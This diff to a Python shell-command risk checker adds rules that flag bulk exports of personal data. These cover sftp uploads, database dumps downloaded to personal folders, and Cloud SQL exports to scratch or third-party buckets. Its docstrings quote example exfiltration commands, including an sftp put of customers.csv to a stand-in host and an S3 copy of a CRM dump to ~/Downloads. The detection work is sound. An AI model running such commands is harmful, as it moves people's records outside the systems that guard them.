@@ -16,6 +16,8 @@ from collections.abc import Callable
 from typing import Protocol
 
 from bot.risk.packs.files import local_datastore
+from bot.risk.reference import PERSONAL_TABLE_RE as _PERSONAL_TABLE_RE
+from bot.risk.reference import reference_table
 from bot.risk.shell_cmd import Cmd, decode_escapes
 from bot.risk.shell_rules import (
     CATASTROPHIC_PATHS,
@@ -394,8 +396,24 @@ def _httpie_upload_hosts(cmd: Cmd) -> list[str]:
     return []
 
 
+_SFTP_PUT_RE = re.compile(r"(?im)^\s*-?m?put\s+(\S+)")
+# A file named for numbers about records, not the records (`churn_by_region_aggregated_anon.csv`,
+# `weekly_counts.csv`, `kpi_summary.xlsx`).
+_AGGREGATE_FILE_RE = re.compile(
+    r"(?i)(?:^|[/_.-])(?:agg(?:regated?|regates)?|anon(?:ymi[sz]ed)?|summary|counts?|totals?|"
+    r"stats|statistics|kpis?)(?:[/_.-]|$)"
+)
+
+
 def _copy_upload_hosts(cmd: Cmd) -> list[str]:
-    """scp/sftp/rsync: the remote host, when a local source is copied to it."""
+    """scp/sftp/rsync: the remote host, when a local source is copied to it; sftp's host
+    when its batch commands on stdin put a file there (`sftp -b - u@drop.example <<< 'put
+    customers.csv /in/'`)."""
+    if cmd.name == "sftp" and cmd.stdin_text and _SFTP_PUT_RE.search(cmd.stdin_text):
+        if all(_AGGREGATE_FILE_RE.search(f) for f in _SFTP_PUT_RE.findall(cmd.stdin_text)):
+            return []  # only files named as aggregates or anonymised figures go
+        remote = [p for p in cmd.pos if not p.startswith("-")]
+        return [remote[-1].rsplit("@", 1)[-1].split(":", 1)[0]] if remote else []
     if len(cmd.pos) < 2:
         return []
     m = URL_RE.match(cmd.pos[-1]) or REMOTE_RE.match(cmd.pos[-1])
@@ -564,6 +582,29 @@ def _copy_targets(cmd: Cmd) -> list[str] | None:
     return names
 
 
+# A database dump by its file name: a SQL or archive dump, a backup file, or a name that
+# says so (`crm-2026-11-30.sql.gz`, `prod.dump`, `users.bson`, `db-backup.tar.gz`).
+_DUMP_FILE_RE = re.compile(
+    r"(?i)\.(?:sql|dump|bak|bacpac|bson|rdb|archive)(?:\.(?:gz|bz2|xz|zst|zip|tar))?/?$"
+    r"|(?:^|[/_.-])(?:dumps?|db[_-]?backups?|pg_?dump|mysqldump)(?:[/_.-]|$)"
+)
+
+
+def check_dump_downloaded(cmd: Cmd, walk: Walk) -> bool:
+    """A database dump copied from a bucket or remote onto a personal or temporary place
+    (`aws s3 cp s3://prod-db-dumps/crm.sql.gz ~/Downloads/`): every row of the database on
+    one person's machine, outside the systems that guard it."""
+    verbs = _COPY_VERBS.get(cmd.name)
+    if verbs is None or cmd.name == "bq" or len(cmd.pos) < len(verbs) + 2:
+        return False
+    if not all(re.fullmatch(v, w) for v, w in zip(verbs, cmd.pos, strict=False)):
+        return False
+    source, *targets = cmd.pos[len(verbs) :]
+    if not _STORE_URL_RE.match(source) or not _DUMP_FILE_RE.search(source):
+        return False
+    return any(_PERSONAL_RE.search(t) or t in (".", "./") for t in targets)
+
+
 def check_personal_destination(cmd: Cmd, walk: Walk) -> bool:
     """A copy into a bucket or remote whose name says it is someone's own (`s3://jd-personal`,
     `gdrive-personal:`), or made with a personal account profile (`--profile personal`)."""
@@ -594,18 +635,14 @@ _THIRD_PARTY_BUCKET_RE = re.compile(
     r"fornecedor|partner|parceir|contractor|prestataire|freelanc|extern|transfer|inbox|dropbox"
 )
 _STAGING_BUCKET_RE = re.compile(r"(?i)(?:^|[-_.])(?:tmp|temp|scratch|adhoc|ad-hoc)(?:$|[-_.])")
-# A warehouse table whose name says it holds people's records.
-_PERSONAL_TABLE_RE = re.compile(
-    r"(?i)customer|client|kunde|contact|member|user|usuari|utilisat|patient|pacient|"
-    r"employee|staff|mitarbeit|payroll|salar|card|payment|pago|pagamento|transaction|"
-    r"cardholder|lead|person|people|crm|ssn|passport|address"
-)
 
 
 def check_warehouse_extract_out(cmd: Cmd, walk: Walk) -> bool:
     """`bq extract TABLE gs://…` into a bucket named for an outside party, or a table of
     people's records into a temporary/scratch bucket (a staging step to take it offline).
     The same extract into the company's named export bucket is routine."""
+    if cmd.name == "gcloud" and cmd.pos[:2] == ["sql", "export"]:
+        return _cloud_sql_export_out(cmd)
     if cmd.name != "bq" or cmd.pos[:1] != ["extract"] or len(cmd.pos) < 3:
         return False
     table = cmd.pos[1].rsplit(":", 1)[-1]
@@ -617,25 +654,122 @@ def check_warehouse_extract_out(cmd: Cmd, walk: Walk) -> bool:
     )
 
 
+# A query that reads no one's rows: a count or another aggregate per group.
+_AGGREGATE_QUERY_RE = re.compile(
+    r"(?is)^\s*select\s+(?:(?!\bfrom\b).)*\b(?:count|sum|avg)\s*\(.*\bgroup\s+by\b"
+)
+
+
+def _cloud_sql_export_out(cmd: Cmd) -> bool:
+    """`gcloud sql export csv|sql INSTANCE gs://…` of people's records (its `--query`, or
+    the database or tables it names) into a temporary bucket, or anything into a bucket
+    named for an outside party; an aggregate query exports counts, not records."""
+    names = [m.group(1) for t in cmd.pos[3:] if (m := re.match(r"^gs://([^/]+)", t))]
+    if any(_THIRD_PARTY_BUCKET_RE.search(n) for n in names):
+        return True
+    queries = cmd.value("--query")
+    if queries and all(_AGGREGATE_QUERY_RE.match(q) for q in queries):
+        return False
+    what = " ".join(queries + cmd.value("--database", "-d", "--table", "-t") + cmd.pos[2:3])
+    return bool(_PERSONAL_TABLE_RE.search(what)) and any(
+        _STAGING_BUCKET_RE.search(n) for n in names
+    )
+
+
 def check_db_dump_exfil(cmd: Cmd, walk: Walk) -> bool:
-    if cmd.flags & {"--schema-only", "-s"} and cmd.name.startswith("pg_dump"):
-        return False
-    if cmd.flags & {"--no-data", "-d"} and cmd.name in ("mysqldump", "mariadb-dump"):
-        return False  # table definitions only, no rows
-    if local_datastore(cmd, walk):  # a database on this machine is already local
-        return False
+    """A dump written to a personal or temporary place or sent over the network; or the
+    rows of a table of people (`mysqldump shop customers > shop.sql`, `mongoexport
+    --collection clientes --out c.json`) written to any file: an export of personal data in
+    bulk wherever the file lands (not a backup folder). A dump of named reference tables
+    only (`--collection feature_flags`, `-t product_catalog`) holds nobody's records."""
+    if _structure_only(cmd) or local_datastore(cmd, walk):
+        return False  # table definitions only; a database on this machine is already local
     if any(
         d.name in NETWORK_SINKS | {"aws", "gsutil", "gcloud", "rclone", "az"}
         for d in cmd.downstream
     ):
         return True
+    tables = dumped_tables(cmd)
+    if tables and all(reference_table(t) for t in tables):
+        return False
+    outputs = _dump_outputs(cmd)
+    if any(_PERSONAL_RE.search(o) for o in outputs):
+        return True
+    return (
+        any(_PERSONAL_TABLE_RE.search(t) for t in tables)
+        and bool(outputs)
+        and not all(_BACKUP_PATH_RE.search(o) for o in outputs)
+    )
+
+
+def _structure_only(cmd: Cmd) -> bool:
+    if cmd.flags & {"--schema-only", "-s"} and cmd.name.startswith("pg_dump"):
+        return True
+    return bool(cmd.flags & {"--no-data", "-d"}) and cmd.name in ("mysqldump", "mariadb-dump")
+
+
+def _dump_outputs(cmd: Cmd) -> list[str]:
+    """Where a dump's rows are written: its output options and redirections, its pipeline's."""
     outputs = cmd.value("-f", "--file", "--result-file", "-r", "-o", "--out")
     outputs += [t for op, t in cmd.redirects if op in (">", ">>", ">|", "&>")]
     for d in cmd.downstream:
         outputs += [t for op, t in d.redirects if op in (">", ">>", ">|", "&>")]
         if d.name in ("tee",):
             outputs += d.pos
-    return any(_PERSONAL_RE.search(o) for o in outputs)
+    return outputs
+
+
+# Options of mysqldump/mariadb-dump that take a value as the next word.
+_MYSQL_VALUE_OPTS = frozenset(
+    [
+        "-h",
+        "--host",
+        "-u",
+        "--user",
+        "-P",
+        "--port",
+        "-S",
+        "--socket",
+        "-r",
+        "--result-file",
+        "-w",
+        "--where",
+        "--default-character-set",
+        "--defaults-file",
+        "--defaults-extra-file",
+        "--ignore-table",
+        "--login-path",
+        "--protocol",
+        "--ssl-ca",
+        "--ssl-cert",
+        "--ssl-key",
+        "--tables",
+    ]
+)
+_BACKUP_PATH_RE = re.compile(r"(?i)(?:^|/)(?:backups?|bak|snapshots?)(?:/|[-_.])")
+
+
+def dumped_tables(cmd: Cmd) -> list[str]:
+    """The tables or collections a dumper names (`-t`, `--collection`, mysqldump's words
+    after the database); empty when it dumps whole databases."""
+    if cmd.name.startswith("pg_dump"):
+        return cmd.value("-t", "--table")
+    if cmd.name in ("mongoexport", "mongodump"):
+        return cmd.value("--collection", "-c")
+    if cmd.name not in ("mysqldump", "mariadb-dump"):
+        return []
+    if any(a in ("--databases", "-B", "--all-databases", "-A") for a in cmd.args):
+        return []
+    words: list[str] = []
+    skip = False
+    for arg in cmd.args:
+        if skip:
+            skip = False
+        elif arg in _MYSQL_VALUE_OPTS:
+            skip = True
+        elif not arg.startswith("-"):
+            words.append(arg)
+    return words[1:]
 
 
 # A secret read that prints only its key names: `jq 'keys'` (or `keys[]`, `keys | length`,
@@ -988,6 +1122,7 @@ CHECKS: dict[str, Callable[[Cmd, Walk], bool]] = {
     "warehouse_extract_out": check_warehouse_extract_out,
     "public_destination": check_public_destination,
     "db_dump_exfil": check_db_dump_exfil,
+    "dump_downloaded": check_dump_downloaded,
     "secret_values_shown": check_secret_values_shown,
     "piped_upload": check_piped_upload,
     "credential_file": check_credential_file,
